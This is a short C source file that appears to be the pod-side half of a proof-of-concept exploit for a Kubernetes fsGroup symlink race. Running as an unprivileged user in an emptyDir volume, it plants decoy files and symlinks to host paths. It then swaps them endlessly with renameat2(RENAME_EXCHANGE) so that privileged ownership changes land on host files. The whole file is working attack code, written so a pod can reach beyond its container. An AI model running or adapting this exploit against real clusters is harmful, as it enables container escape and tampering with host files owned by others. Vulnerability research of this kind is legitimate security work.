/* The pod's side of the fsGroup symlink swap: in its emptyDir it makes a directory `d` holding files named as the
 * host's (f0000...), a symlink `dl` to the host directory, a file `x` and a symlink `xl` to a host file, then swaps
 * each pair for ever with renameat2(RENAME_EXCHANGE), so neither name is ever missing. Run as a plain user.
 * Usage: swap <volume> <host-dir> <files> */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define RENAME_EXCHANGE_FLAG (1 << 1)

static int exchange(const char *a, const char *b) {
	return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE_FLAG);
}

static int touch(const char *path) {
	int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0600);
	if (fd < 0) return -1;
	return close(fd);
}

int main(int argc, char **argv) {
	char path[4096];
	if (argc != 4) {
		fprintf(stderr, "usage: swap <volume> <host-dir> <files>\n");
		return 2;
	}
	int files = atoi(argv[3]);
	if (chdir(argv[1]) != 0 || mkdir("d", 0777) != 0) {
		perror("setup");
		return 1;
	}
	for (int i = 0; i < files; i++) {
		snprintf(path, sizeof path, "d/f%04d", i);
		if (touch(path) != 0) {
			perror(path);
			return 1;
		}
	}
	snprintf(path, sizeof path, "%s/f0000", argv[2]);
	if (symlink(argv[2], "dl") != 0 || symlink(path, "xl") != 0 || touch("x") != 0) {
		perror("links");
		return 1;
	}
	printf("READY\n");
	fflush(stdout);
	/* Bursts of swaps with a short rest, to leave the node some CPU. */
	struct timespec rest = {0, 1000000};
	for (unsigned long n = 1;; n++) {
		if (exchange("d", "dl") != 0 || exchange("x", "xl") != 0) {
			perror("renameat2");
			return 1;
		}
		if (n % 100 == 0) nanosleep(&rest, NULL);
	}
}
